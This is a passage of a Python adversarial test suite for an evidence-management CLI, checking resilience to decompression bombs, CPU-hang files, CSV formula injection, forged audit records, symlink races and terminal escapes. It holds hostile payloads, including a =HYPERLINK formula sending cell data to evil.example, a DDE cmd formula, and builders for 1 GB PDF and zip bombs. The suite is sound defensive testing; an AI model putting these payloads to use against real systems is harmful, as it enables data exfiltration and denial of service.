    (ctx.ws / "criteria").mkdir(exist_ok=True)
    shutil.copyfile(_zeros_yaml(ctx, 5), ctx.ws / "criteria" / "zeros.yaml")


@case("bombs", "framework-zeros-list", "the 5 MB list of zeros as a framework in the workspace's criteria/; "
      "criteria list")
def _(ctx: Ctx) -> Spec:
    _framework_zeros(ctx)
    return Spec(["criteria", "list"])


@case("bombs", "framework-zeros-score", "the same framework file; score --city Hanoi (every command that loads "
      "the catalogue)")
def _(ctx: Ctx) -> Spec:
    _framework_zeros(ctx)
    return Spec(["score", "--city", "Hanoi"])


@case("bombs", "framework-zeros-validate", "the 5 MB list of zeros given to criteria validate")
def _(ctx: Ctx) -> Spec:
    return Spec(["criteria", "validate", str(_zeros_yaml(ctx, 5))])


@case("bombs", "yaml-nested-100k", "YAML nested 100,000 levels deep ([[[[...]]]]); import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("deep.yaml", "records: " + "[" * 100_000 + "]" * 100_000 + "\n"))])


@case("bombs", "pdf-flate-1GB", "a PDF whose page content inflates to 1 GB (~1 MB file); draft")
def _(ctx: Ctx) -> Spec:
    def make(tmp: Path) -> None:
        m = bomb("x", b"", b"0 0 m 1 1 l S\n" * (MiB // 14), GB // MiB, b"")
        assert inflated_size(m) >= GB * 0.99
        # FlateDecode wants the zlib format: header, the raw stream, Adler-32 of what it inflates to
        write_pdf(tmp, raw_stream=b"\x78\xda" + m.data + struct.pack(">I", _adler_of_blocks(m)))
        assert tmp.stat().st_size < 2 * MB
    return Spec(["evidence", "draft", str(cached(ctx, "flate-1gb.pdf", make)), "--city", "Hanoi", "--dry-run"])


def _adler_of_blocks(m: Member) -> int:
    d = zlib.decompressobj(-15)
    adler, data = 1, m.data
    while data:
        adler = zlib.adler32(d.decompress(data, 64 * MiB), adler)
        data = d.unconsumed_tail
    return zlib.adler32(d.flush(), adler)


@case("bombs", "html-45MB-text", "45 MB of HTML text (under the 50 MiB draft cap); draft")
def _(ctx: Ctx) -> Spec:
    def make(tmp: Path) -> None:
        with open(tmp, "wb") as f:
            f.write(b"<html><head><title>Big page</title></head><body><p>")
            line = "Tuần lễ học tập suốt đời tại Hà Nội, lifelong learning week. ".encode() * 16 + b"\n"
            for _ in range(45 * MB // len(line)):
                f.write(line)
            f.write(b"</p></body></html>")
    return Spec(["evidence", "draft", str(cached(ctx, "big.html", make)), "--city", "Hanoi", "--dry-run"])


# ---------------------------------------------------------------------------------------------
# Medium: CPU hangs


@case("cpu", "xlsx-dimension-claim", "a 2 kB XLSX whose dimension claims A1:XFD1048576 (two real rows); import")
def _(ctx: Ctx) -> Spec:
    path = write_xlsx(ctx.root / "dim.xlsx", sheet_xml([["kind", "title"], ["event", "Week"]], "A1:XFD1048576"))
    assert path.stat().st_size < 3000
    return Spec(["import", str(path), "--city", "Hanoi"])


@case("cpu", "xlsx-cell-XFD1048576", "a 2 kB XLSX claiming A1:XFD1048576 with one empty cell at XFD1048576 "
      "(a reader pads a million rows of 16,384 cells); import")
def _(ctx: Ctx) -> Spec:
    cells = ('<row r="1"><c r="A1" t="inlineStr"><is><t>kind</t></is></c><c r="B1" t="inlineStr"><is><t>title</t></is>'
             '</c></row><row r="2"><c r="A2" t="inlineStr"><is><t>event</t></is></c><c r="B2" t="inlineStr"><is><t>Week'
             '</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t> </t></is></c></row>')
    path = write_xlsx(ctx.root / "far.xlsx", sheet_xml([], "A1:XFD1048576", cells=cells))
    assert path.stat().st_size < 3000
    return Spec(["import", str(path), "--city", "Hanoi"])


def _unclosed(ctx: Ctx, n: int) -> Path:
    return ctx.file(f"unclosed-{n}.html", "<!doctype html><html><head><title>Tags</title></head><body>"
                    + "<span>học tập " * n + "</body></html>")


@case("cpu", "html-20k-unclosed", "HTML with 20,000 unclosed <span> tags; draft")
def _(ctx: Ctx) -> Spec:
    return Spec(["evidence", "draft", str(_unclosed(ctx, 20_000)), "--city", "Hanoi", "--dry-run"])


@case("cpu", "html-100k-unclosed", "HTML with 100,000 unclosed <span> tags; draft")
def _(ctx: Ctx) -> Spec:
    return Spec(["evidence", "draft", str(_unclosed(ctx, 100_000)), "--city", "Hanoi", "--dry-run"])


@case("cpu", "pdf-shared-70MB-stream", "a ~400 kB PDF whose one 70 MB content stream is shared by 2,000 pages; draft")
def _(ctx: Ctx) -> Spec:
    def make(tmp: Path) -> None:
        write_pdf(tmp, content=b"0 0 m 1 1 l S\n" * (70 * MB // 14), pages=2000)
        assert tmp.stat().st_size < 1 * MB
        from pypdf import PdfReader
        reader = PdfReader(str(tmp))
        assert len(reader.pages) == 2000
        refs = {reader.pages[i].get_object().raw_get("/Contents").idnum for i in (0, 999, 1999)}
        assert len(refs) == 1, "the pages do not share one stream"
    return Spec(["evidence", "draft", str(cached(ctx, "shared.pdf", make)), "--city", "Hanoi", "--dry-run"])


@case("cpu", "pdf-title-5MB", "a PDF whose title is 5 MB; draft")
def _(ctx: Ctx) -> Spec:
    def make(tmp: Path) -> None:
        write_pdf(tmp, ["Lifelong Learning Week 2025"], title="Học tập suốt đời " * (5 * MB // 17))
        assert tmp.stat().st_size > 5 * MB
    return Spec(["evidence", "draft", str(cached(ctx, "title.pdf", make)), "--city", "Hanoi", "--dry-run"])


@case("cpu", "suggest-800KB-text", "an 800 kB text (many criteria words) drafted: suggest's phrase searches")
def _(ctx: Ctx) -> Spec:
    rnd = random.Random(13)
    criteria = "\n".join(p.read_text("utf-8") for p in sorted((REPO / "criteria").glob("*.yaml")))
    words = re.findall(r"[^\W\d_]{3,}", criteria)
    text = []
    size = 0
    while size < 800_000:
        sentence = " ".join(rnd.choice(words) for _ in range(14)).capitalize() + ". "
        text.append(sentence)
        size += len(sentence.encode())
    return Spec(["evidence", "draft", str(ctx.file("long.txt", "Lifelong learning week\n" + "".join(text))),
                 "--city", "Hanoi"])


# ---------------------------------------------------------------------------------------------
# Medium: CSV formula injection

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"PWNED-title")',
    "title_en": "+PWNED-title-en+1",
    "summary": "-PWNED-summary+1",
    "organiser": "@SUM(PWNED-organiser)",
    "organiser_en": "=cmd|' /C calc'!A0 PWNED-cmd",
}
UNIT_FORMULA = "=PWNED-unit+1"
NA_FORMULA = "=PWNED-na-why+1 because the city has no such thing"


def _seed_formulas(ctx: Ctx) -> None:
    ctx.rd("unit", "add", UNIT_FORMULA, "--city", "Hanoi", "--kind", "ward")
    rows = [["kind", "unit", "start", "criteria", *FORMULAS]]
    rows.append(["event", UNIT_FORMULA, "2025-10-01", "kflc:2.6.1", *FORMULAS.values()])
    rows.append(["event", UNIT_FORMULA, "2025-10-02", "kflc:2.6.1", "\tPWNED-tab", "\rPWNED-cr", "-PWNED-2",
                 "+PWNED-3", "@PWNED-4"])
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    path = ctx.root / "formulas.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    ctx.rd("import", str(path), "--city", "Hanoi")
    ctx.rd("na", "add", "kflc:1.3.1", "--city", "Hanoi", "--why", NA_FORMULA)


def formula_cells(output: bytes) -> tuple[int, list[str]]:
    """(hostile cells seen, those that a spreadsheet would run as a formula)."""
    seen, live = 0, []
    for cells in csv.reader(io.StringIO(output.decode("utf-8", "replace"), newline="")):
        for cell in cells:
            if "PWNED" in cell:
                seen += 1
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    live.append(cell)
    return seen, live


def _formula_check(ctx: Ctx, m: Any) -> str | None:
    if m.exit != 0:
        return None
    seen, live = formula_cells(m.stdout)
    if not seen:
        return "harness: no hostile cell reached this output (attack not exercised)"
    return f"{len(live)} of {seen} hostile cells start a formula, e.g. {live[0][:30]!r}" if live else None


@case("csv", "evidence-list-csv", "titles, summaries, organisers, unit names starting with = + - @ tab CR; "
      "evidence list --format csv", template="formula")
def _(ctx: Ctx) -> Spec:
    return Spec(["evidence", "list", "--city", "Hanoi", "--format", "csv"], check=_formula_check)


@case("csv", "score-csv", "an N/A justification starting with =; score --format csv", template="formula")
def _(ctx: Ctx) -> Spec:
    return Spec(["score", "--city", "Hanoi", "--format", "csv"], check=_formula_check)


@case("csv", "gaps-csv", "a unit name starting with = as a gap's owner; gaps --format csv", template="formula")
def _(ctx: Ctx) -> Spec:
    return Spec(["gaps", "--city", "Hanoi", "--format", "csv", "--limit", "200"], check=_formula_check)


# ---------------------------------------------------------------------------------------------
# Medium: import skips review


def _unreviewed(marker: str, status: str) -> Callable[[Ctx, Any], str | None]:
    def check(ctx: Ctx, m: Any) -> str | None:
        rows = ctx.db("SELECT code, status, status_by, status_reason FROM evidence WHERE title LIKE ?", f"%{marker}%")
        for code, got, by, reason in rows:
            if got == "verified" and status == "verified" and not by:
                return f"{code} imported as verified with no reviewer (counts at full weight)"
            if got == "rejected" and status == "rejected" and not reason:
                return f"{code} imported as rejected with no reason"
        return None
    return check


def _status_csv(ctx: Ctx, status: str, marker: str, xlsx: bool = False) -> Spec:
    rows = [["kind", "title", "start", "criteria", "status"],
            ["event", f"{marker} week", "2025-10-01", "kflc:2.6.1", status]]
    if xlsx:
        path = write_xlsx(ctx.root / "status.xlsx", sheet_xml(rows))
    else:
        buf = io.StringIO()
        csv.writer(buf).writerows(rows)
        path = ctx.file("status.csv", buf.getvalue())
    return Spec(["import", str(path), "--city", "Hanoi"], check=_unreviewed(marker, status))


@case("review", "csv-status-verified", "a CSV row with status verified")
def _(ctx: Ctx) -> Spec:
    return _status_csv(ctx, "verified", "REVIEW-CSV-V")


@case("review", "csv-rejected-no-reason", "a CSV row with status rejected and no reason")
def _(ctx: Ctx) -> Spec:
    return _status_csv(ctx, "rejected", "REVIEW-CSV-R")


@case("review", "xlsx-status-verified", "an XLSX row with status verified (đã xác minh in Vietnamese is not needed)")
def _(ctx: Ctx) -> Spec:
    return _status_csv(ctx, "verified", "REVIEW-XLSX-V", xlsx=True)


FORGER = "UNESCO reviewer"


def _forged_doc() -> str:
    rec = record("REVIEW-FORGED plan", id="YC-0001", status="verified", status_by=FORGER,
                 status_at="2019-05-01T00:00:00+00:00", links=[{"criterion": "kflc:2.6.1", "rationale": "x"}],
                 created_at="2001-01-01T00:00:00+00:00", created_by=FORGER)
    audit = [{"at": "2001-01-01T00:00:00+00:00", "actor": FORGER, "action": "evidence.verify", "entity": "evidence",
              "ref": "YC-0001", "before": None, "after": {"id": "YC-0001", "status": "verified"}}]
    return evidence_yaml([rec], audit=audit)


def _forged_check(ctx: Ctx, m: Any) -> str | None:
    found = []
    if ctx.db("SELECT 1 FROM evidence WHERE status = 'verified' AND status_by = ?", FORGER):
        found.append(f"status_by {FORGER!r} restored as a real review")
    # `at` has numeric affinity: compare it as text, or '2001-...' < '2002' is false
    if ctx.db("SELECT 1 FROM audit_event WHERE actor = ? AND CAST(at AS TEXT) < '2002' AND action NOT LIKE '%import%'",
              FORGER):
        found.append("back-dated audit history (2001) restored as real, not marked imported")
    return "; ".join(found) or None


@case("review", "yaml-forged-reviewer", "YAML claiming status_by: UNESCO reviewer and a back-dated audit history")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("forged.yaml", _forged_doc()))], check=_forged_check)


@case("review", "zip-forged-reviewer", "the same claims in an export zip (nothing proves where it came from)")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(write_zip(ctx.root / "forged.zip", [member("evidence.yaml", _forged_doc())]))],
                check=_forged_check)


# ---------------------------------------------------------------------------------------------
# Medium: the dossier's temporary file


@case("dossier-tmp", "part-symlink", "a symlink planted at the dossier's temporary name .<name>.part pointing "
      "to another file; dossier -o")
def _(ctx: Ctx) -> Spec:
    victim = ctx.file("victim.txt", "VICTIM: someone else's file\n")
    out = ctx.root / "out"
    out.mkdir()
    (out / ".d.html.part").symlink_to(victim)
    return Spec(["dossier", "--city", "Hanoi", "--format", "html", "-o", str(out / "d.html")], watch=[victim])


@case("dossier-tmp", "output-is-symlink", "-o names a symlink to another file (replacing the link is right; "
      "writing through it is not)")
def _(ctx: Ctx) -> Spec:
    victim = ctx.file("victim.txt", "VICTIM: someone else's file\n")
    (ctx.root / "d.html").symlink_to(victim)
    return Spec(["dossier", "--city", "Hanoi", "--format", "html", "-o", str(ctx.root / "d.html")], watch=[victim])


# ---------------------------------------------------------------------------------------------
# Medium: verify --prune during a multi-file attach or import


def _prune_during(target: Path) -> Callable[[Ctx, int], str | None]:
    def during(ctx: Ctx, pid: int) -> str | None:
        if not _wait_for(target, pid):
            return "FAIL: race not exercised: the first file was never seen stored while the command ran"
        os.kill(pid, signal.SIGSTOP)
        try:
            done, waited = _while_paused(ctx, pid, ["verify", "--prune"])
        finally:
            try:
                os.kill(pid, signal.SIGCONT)
            except ProcessLookupError:  # resumed while prune waited on its lock, and finished since
                pass
        err = done.stderr.decode("utf-8", "replace")
        if "Traceback" in err:
            return "FAIL: verify --prune: traceback " + err.strip().splitlines()[-1][:80]
        return (f"verify --prune waited for the paused command (exit {done.returncode})" if waited
                else f"verify --prune ran while the command was paused after its first file (exit {done.returncode})")
    return during


def _nothing_lost(target: Path) -> Callable[[Ctx, Any], str | None]:
    def check(ctx: Ctx, m: Any) -> str | None:
        if m.exit == 0 and not target.exists():
            return "reported success for a file that prune removed"
        if ctx.followed and ctx.followed[0].exit != 0:
            return "verify afterwards: " + (ctx.followed[0].stderr.strip().splitlines() or ["?"])[0][:80]
        return None
    return check


@case("prune", "prune-during-attach", "verify --prune while `evidence attach` of two files is between them")
def _(ctx: Ctx) -> Spec:
    first = ctx.file("minutes.txt", b"PRUNE-VICTIM minutes\n" * 40)
    big = _zeros_file(ctx, "video.bin", 150 * MB)
    target = ctx.ws / "files" / "objects" / sha256(first.read_bytes())[:2] / sha256(first.read_bytes())
    return Spec(["evidence", "attach", "HN-0001", str(first), str(big)], followups=[["verify"]],
                during=_prune_during(target), check=_nothing_lost(target), changes_ok="prune ran")


@case("prune", "prune-during-import", "verify --prune while a zip import is storing its second file")
def _(ctx: Ctx) -> Spec:
    first = b"PRUNE-VICTIM minutes of the forum\n" * 40
    big = 150 * MB
    big_sha = hashlib.sha256()
    block = b"\0" * MiB
    for _ in range(big // MiB):
        big_sha.update(block)
    records = [record("first", attachments=[{"file": f"files/{sha256(first)}", "name": "minutes.txt"}]),
               record("second",
                      attachments=[{"file": "files/big", "name": "video.bin", "sha256": big_sha.hexdigest()}])]
    archive = write_zip(ctx.root / "two.zip", [member("evidence.yaml", evidence_yaml(records, HANOI)),
                                               member(f"files/{sha256(first)}", first),
                                               bomb("files/big", b"", block, big // MiB, b"")])
    target = ctx.ws / "files" / "objects" / sha256(first)[:2] / sha256(first)
    return Spec(["import", str(archive)], followups=[["verify"]], during=_prune_during(target),
                check=_nothing_lost(target), changes_ok="prune ran")


# ---------------------------------------------------------------------------------------------
# Low: tracebacks where one error: line is promised

BIG_INT = "7" * 5000


@case("traceback", "yaml-int-5000-digits", "a YAML integer of 5,000 digits (over Python's 4,300); import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("int.yaml", evidence_yaml([record("x")]).replace("'2025-10-01'", BIG_INT)))])


@case("traceback", "framework-int-5000-digits", "the same integer in a framework file; criteria validate")
def _(ctx: Ctx) -> Spec:
    return Spec(["criteria", "validate", str(ctx.file("fw.yaml", f"format: 1\nid: big\nversion: {BIG_INT}\n"))])


@case("traceback", "yaml-date-2025-99-99", "start: 2025-99-99 in YAML (a timestamp PyYAML cannot build); import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("date.yaml", evidence_yaml([record("x")]).replace("'2025-10-01'", "2025-99-99")
                                        .replace("2025-10-01", "2025-99-99")))])


@case("traceback", "csv-date-2025-99-99", "a CSV start date 2025-99-99; import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("date.csv", "kind,title,start\nevent,Week,2025-99-99\n")), "--city", "Hanoi"],
                check=refused)


@case("traceback", "cli-date-2025-99-99", "evidence add --start 2025-99-99")
def _(ctx: Ctx) -> Spec:
    return Spec(["evidence", "add", "--city", "Hanoi", "--kind", "event", "--title", "Week", "--start", "2025-99-99"],
                check=refused)


@case("traceback", "xlsx-internal-entity", "an XLSX sheet declaring an internal entity used in a cell; import")
def _(ctx: Ctx) -> Spec:
    doctype = '<!DOCTYPE worksheet [<!ENTITY k "event">]>'
    cells = ('<row r="1"><c r="A1" t="inlineStr"><is><t>kind</t></is></c><c r="B1" t="inlineStr"><is><t>title</t></is>'
             '</c></row><row r="2"><c r="A2" t="inlineStr"><is><t>&k;</t></is></c><c r="B2" t="inlineStr"><is><t>Week'
             '</t></is></c></row>')
    return Spec(["import", str(write_xlsx(ctx.root / "ent.xlsx", sheet_xml([], doctype=doctype, cells=cells))),
                 "--city", "Hanoi"])


@case("traceback", "sqlite-corrupt", "the workspace database overwritten with random bytes; evidence list")
def _(ctx: Ctx) -> Spec:
    db = ctx.ws / "readiness.sqlite3"
    db.write_bytes(random.Random(1).randbytes(db.stat().st_size))
    return Spec(["evidence", "list"])


@case("traceback", "sqlite-truncated", "the workspace database cut to half its size; evidence list")
def _(ctx: Ctx) -> Spec:
    db = ctx.ws / "readiness.sqlite3"
    with open(db, "r+b") as f:
        f.truncate(db.stat().st_size // 2)
    return Spec(["evidence", "list"])


@case("traceback", "sqlite-header-only", "a database file holding only a valid SQLite header; score --city Hanoi")
def _(ctx: Ctx) -> Spec:
    db = ctx.ws / "readiness.sqlite3"
    db.write_bytes(db.read_bytes()[:100])
    return Spec(["score", "--city", "Hanoi"])


@case("traceback", "sqlite-etc-passwd", "--database-url sqlite:////etc/passwd; city list (and /etc/passwd unchanged)",
      template="empty")
def _(ctx: Ctx) -> Spec:
    return Spec(["city", "list", "--database-url", "sqlite:////etc/passwd"], watch=[Path("/etc/passwd")])


@case("traceback", "sqlite-url-folder", "--database-url naming a folder; city list", template="empty")
def _(ctx: Ctx) -> Spec:
    return Spec(["city", "list", "--database-url", f"sqlite:///{ctx.root}"])


def _tmpfs(ctx: Ctx, where: Path, size: str) -> None:
    """Mount a small tmpfs at ``where`` keeping what was there (root only)."""
    if os.geteuid() != 0 or not shutil.which("mount"):
        raise NotRun("disk full needs root to mount a small tmpfs")
    saved = where.with_name(where.name + ".saved")
    where.rename(saved)
    where.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)], capture_output=True)
    if done.returncode != 0:
        where.rmdir()
        saved.rename(where)
        raise NotRun(f"cannot mount a tmpfs: {done.stderr.decode().strip()[:60]}")
    ctx.cleanup.append(lambda: subprocess.run(["umount", "-l", str(where)], capture_output=True))
    for item in saved.iterdir():
        (shutil.copytree if item.is_dir() else shutil.copy2)(item, where / item.name)


@case("traceback", "disk-full-attach", "evidence attach of 2 MB onto a file store with 1 MB free")
def _(ctx: Ctx) -> Spec:
    _tmpfs(ctx, ctx.ws / "files", "1m")
    path = ctx.file("scan.bin", random.Random(2).randbytes(2 * MB))
    return Spec(["evidence", "attach", "HN-0001", str(path)])


@case("traceback", "disk-full-import", "a CSV import with a 2 MB file onto a file store with 1 MB free")
def _(ctx: Ctx) -> Spec:
    _tmpfs(ctx, ctx.ws / "files", "1m")
    ctx.file("scan.bin", random.Random(3).randbytes(2 * MB))
    return Spec(["import", str(ctx.file("rows.csv", "kind,title,files\nevent,Week,scan.bin\n")), "--city", "Hanoi"])


@case("traceback", "disk-full-database", "evidence add when the database's disk is full")
def _(ctx: Ctx) -> Spec:
    entries = list(ctx.ws.rglob("*"))
    used = sum(p.stat().st_size for p in entries if p.is_file())
    _tmpfs(ctx, ctx.ws, f"{used // 1024 + 4 * len(entries) + 256}k")
    filler = ctx.ws / "filler"  # take all the space but 8 kB
    with open(filler, "wb", buffering=0) as f:
        try:
            while True:
                f.write(b"\0" * 4096)
        except OSError:
            pass
    size = filler.stat().st_size
    with open(filler, "r+b", buffering=0) as f:
        f.truncate(max(0, size - 8192))
    assert os.statvfs(ctx.ws).f_bavail * os.statvfs(ctx.ws).f_frsize <= 16384, "the disk is not full"
    return Spec(["evidence", "add", "--city", "Hanoi", "--kind", "event", "--title", "Tuần lễ " * 400,
                 "--summary", "Học tập suốt đời " * 300])


@case("traceback", "search-50KB", "evidence list --search of 50 kB")
def _(ctx: Ctx) -> Spec:
    return Spec(["evidence", "list", "--search", "học tập " * 5000])


@case("traceback", "zero-byte-csv", "a 0-byte CSV; import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("empty.csv", b"")), "--city", "Hanoi"], check=refused)


@case("traceback", "zero-byte-yaml", "a 0-byte YAML; import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("empty.yaml", b""))], check=refused)


@case("traceback", "zero-byte-xlsx", "a 0-byte XLSX; import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("empty.xlsx", b"")), "--city", "Hanoi"], check=refused)


@case("traceback", "zero-byte-zip", "a 0-byte zip; import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("empty.zip", b""))], check=refused)


@case("traceback", "zero-byte-pdf-draft", "a 0-byte file named .pdf; evidence draft")
def _(ctx: Ctx) -> Spec:
    return Spec(["evidence", "draft", str(ctx.file("empty.pdf", b"")), "--city", "Hanoi", "--dry-run"])


@case("traceback", "zero-byte-framework", "a 0-byte framework file in the workspace's criteria/; criteria list")
def _(ctx: Ctx) -> Spec:
    (ctx.ws / "criteria").mkdir()
    (ctx.ws / "criteria" / "empty.yaml").write_bytes(b"")
    return Spec(["criteria", "list"])


@case("traceback", "truncated-zip", "an export zip cut in half; import")
def _(ctx: Ctx) -> Spec:
    ctx.rd("export", "--city", "Hanoi", "-o", str(ctx.root / "full.zip"))
    data = (ctx.root / "full.zip").read_bytes()
    return Spec(["import", str(ctx.file("half.zip", data[: len(data) // 2]))], check=refused)


@case("traceback", "pg-two-imports-same-city", "two PostgreSQL imports creating the same city at once", template="pg")
def _(ctx: Ctx) -> Spec:
    source = ctx.file("yc.yaml", evidence_yaml([record("Week")]))
    ctx.rd("city", "list")  # create the schema first, so both race on the city, not on migrations
    other: dict[str, Any] = {}

    def during(ctx: Ctx, pid: int) -> str | None:
        done = ctx.rd("import", str(source), ok=False)
        other["done"] = done
        err = done.stderr.decode("utf-8", "replace")
        if "Traceback" in err:
            return "FAIL: the other import: traceback " + err.strip().splitlines()[-1][:80]
        if done.returncode not in (0, 1):
            return f"FAIL: the other import: exit {done.returncode}"
        return f"the other import: exit {done.returncode}"

    return Spec(["import", str(source)], during=during, changes_ok="the other import")


@case("traceback", "pg-nul-in-name", "NUL in a unit name imported into PostgreSQL", template="pg")
def _(ctx: Ctx) -> Spec:
    ctx.rd("city", "list")  # the schema exists before, as in a workspace in use
    return Spec(["import", str(ctx.file("nul.yaml", evidence_yaml([record("Week", unit="Phường\x00Một")],
                                                                  units=[{"name": "Phường\x00Một", "kind": "ward"}])))])


def _pg_options(ctx: Ctx, options: str) -> Spec:
    """The case's own schema, plus a hostile option, in one libpq options= string."""
    url = f"{ctx.database_url}%20{options}"
    return Spec(["city", "add", "Hà Nội", "--country", "VN", "--database-url", url])


@case("traceback", "pg-options-read-only", "a database URL with options=-c default_transaction_read_only=on",
      template="pg")
def _(ctx: Ctx) -> Spec:
    return _pg_options(ctx, "-cdefault_transaction_read_only%3Don")


@case("traceback", "pg-options-timeout", "a database URL with options=-c statement_timeout=1", template="pg")
def _(ctx: Ctx) -> Spec:
    return _pg_options(ctx, "-cstatement_timeout%3D1")


@case("traceback", "pg-options-garbage", "a database URL with options=--no-such-thing", template="pg")
def _(ctx: Ctx) -> Spec:
    return _pg_options(ctx, "--no-such-thing%3D1")


@case("traceback", "url-options-sqlite", "a SQLite URL carrying ?options=-c... and mode=memory", template="empty")
def _(ctx: Ctx) -> Spec:
    return Spec(["city", "list", "--database-url", f"sqlite:///{ctx.root}/x.db?options=-cfoo%3D1&mode=memory"])


# ---------------------------------------------------------------------------------------------
# Low: import skips the name checks


ESCAPES = "Phường \x1b]0;owned\x07\x1b[2J\x1b[31mĐỏ\x1b[0m"


@case("names", "unit-escape-sequences", "a unit name with terminal escape sequences (title change, clear screen); "
      "import, then unit list")
def _(ctx: Ctx) -> Spec:
    text = evidence_yaml([record("Week", unit=ESCAPES)], HANOI, units=[{"name": ESCAPES, "kind": "ward"}])

    def check(ctx: Ctx, m: Any) -> str | None:
        problem = names_clean("unit")(ctx, m)
        if ctx.followed and b"\x1b" in ctx.followed[0].stdout:
            problem = (problem + "; " if problem else "") + "raw escape sequences reach the terminal (unit list)"
        return problem

    return Spec(["import", str(ctx.file("esc.yaml", text))], followups=[["unit", "list", "--city", "Hanoi"]],
                check=check, followups_if_ok=True)


@case("names", "unit-100k-chars", "a unit name of 100,000 characters; import")
def _(ctx: Ctx) -> Spec:
    name = "Phường " + "A" * 100_000
    text = evidence_yaml([record("Week", unit=name)], HANOI, units=[{"name": name, "kind": "ward"}])
    return Spec(["import", str(ctx.file("long.yaml", text))], check=names_clean("unit"))


@case("names", "city-control-chars", "a new city whose name holds control characters; import")
def _(ctx: Ctx) -> Spec:
    text = evidence_yaml([record("Week")], {**NEW_CITY, "name": "Yên\x1b[2J\u202eChâu"})
    return Spec(["import", str(ctx.file("city.yaml", text))], check=names_clean("city"))


@case("names", "nul-in-unit-name", "NUL in a unit name (SQLite); import")
def _(ctx: Ctx) -> Spec:
    text = evidence_yaml([record("Week", unit="Phường\x00Một")], HANOI,
                         units=[{"name": "Phường\x00Một", "kind": "ward"}])
    return Spec(["import", str(ctx.file("nul.yaml", text))], check=names_clean("unit"))


@case("names", "attachment-name-newline", "an attachment name with a newline that forges a line in evidence show")
def _(ctx: Ctx) -> Spec:
    ctx.file("note.txt", "note\n")
    forged = "note.txt\n  status:          verified"
    text = evidence_yaml([record("FORGED-LINE week", attachments=[{"file": "note.txt", "name": forged}])], HANOI)

    def check(ctx: Ctx, m: Any) -> str | None:
        if m.exit != 0:
            return None
        shown = ctx.followed[0].stdout.decode("utf-8", "replace") if ctx.followed else ""
        if re.search(r"^\s*status:\s+verified\s*$", shown, re.MULTILINE):
            return "a forged line `status: verified` appears in evidence show"
        return None

    return Spec(["import", str(ctx.file("nl.yaml", text))], followups=[["evidence", "show", "HN-0010"]], check=check,
                followups_if_ok=True)


@case("names", "attachment-name-100k", "an attachment name of 100,000 characters in a zip import")
def _(ctx: Ctx) -> Spec:
    data = b"some bytes\n"
    text = evidence_yaml([record("Week", attachments=[{"file": f"files/{sha256(data)}", "name": "n" * 100_000 + ".pdf",
                                                        "sha256": sha256(data)}])], HANOI)
    archive = write_zip(ctx.root / "long.zip", [member("evidence.yaml", text), member(f"files/{sha256(data)}", data)])
    return Spec(["import", str(archive)], check=names_clean("attachment", limit=1000))


# ---------------------------------------------------------------------------------------------
# Low: ids


def _next_id_case(ctx: Ctx, source: Path, city: str, next_code: str) -> Spec:
    def check(ctx: Ctx, m: Any) -> str | None:
        if m.exit != 0:
            return None
        add, show = ctx.followed
        if add.exit != 0:
            return "the next evidence add fails: " + (add.stderr.strip().splitlines() or ["?"])[-1][:80]
        if show.exit != 0:
            last = (show.stderr.strip().splitlines() or ["?"])[-1]
            return f"the next id {next_code} cannot be addressed: " + last[:60]
        return None

    return Spec(["import", str(source)] + (["--city", city] if source.suffix == ".csv" else []), followups=[
        ["evidence", "add", "--city", city, "--kind", "event", "--title", "Next", "--start", "2025"],
        ["evidence", "show", next_code]], check=check, followups_if_ok=True)


@case("ids", "yaml-YC-999999999", "a new city's record with id YC-999999999; then evidence add, evidence show "
      "YC-1000000000")
def _(ctx: Ctx) -> Spec:
    return _next_id_case(ctx, ctx.file("ids.yaml", evidence_yaml([record("Week", id="YC-999999999")])),
                         NEW_CITY["name"], "YC-1000000000")


@case("ids", "csv-HN-999999999", "a CSV row with id HN-999999999 into Hanoi; then the next id")
def _(ctx: Ctx) -> Spec:
    return _next_id_case(ctx, ctx.file("ids.csv", "id,kind,title,start\nHN-999999999,event,Week,2025\n"), "Hanoi",
                         "HN-1000000000")


@case("ids", "csv-id-25-digits", "a CSV row with id HN-9999999999999999999999999 (past 64 bits); import")
def _(ctx: Ctx) -> Spec:
    sheet = ctx.file("ids.csv", "id,kind,title,start\nHN-9999999999999999999999999,event,Week,2025\n")
    return Spec(["import", str(sheet), "--city", "Hanoi"])


# ---------------------------------------------------------------------------------------------
# Low: the dossier clips unbreakable strings

LONG_TITLE = "W" * 500
LONG_URL = "https://example.org/" + "Z" * 1500


@case("unbreakable", "title-500-chars", "a record whose title is 500 characters without a break, and a "
      "1,500-character URL; dossier (PDF): no line of the PDF may hold more than fits a page")
def _(ctx: Ctx) -> Spec:
    ctx.rd("evidence", "add", "--city", "Hanoi", "--kind", "event", "--title", LONG_TITLE, "--text-lang", "en",
           "--start", "2025-10-01", "--source-url", LONG_URL, "--link", "kflc:2.6.1", "--why", "x")
    out = ctx.root / "d.pdf"

    def check(ctx: Ctx, m: Any) -> str | None:
        if m.exit != 0 or not out.exists():
            return None
        from pypdf import PdfReader

        text = "\n".join(p.extract_text() or "" for p in PdfReader(str(out)).pages)
        runs = {ch: max((len(r) for r in re.findall(f"{ch}+", text)), default=0) for ch in "WZ"}
        if runs["W"] < 20:
            return "harness: the long title is not in the PDF's text"
        found = [f"a run of {n} {ch} on one line" for ch, n in runs.items() if n > 120]
        return ("runs off the page: " + ", ".join(found)) if found else None

    return Spec(["dossier", "--city", "Hanoi", "-o", str(out)], check=check)


# ---------------------------------------------------------------------------------------------
# Low: pypdf 4.0


@case("pypdf", "pypdf-lower-bound", "pyproject.toml's lowest allowed pypdf has the 75 MB stream and filter "
      "limits (6.x)")
def _(ctx: Ctx) -> Spec:
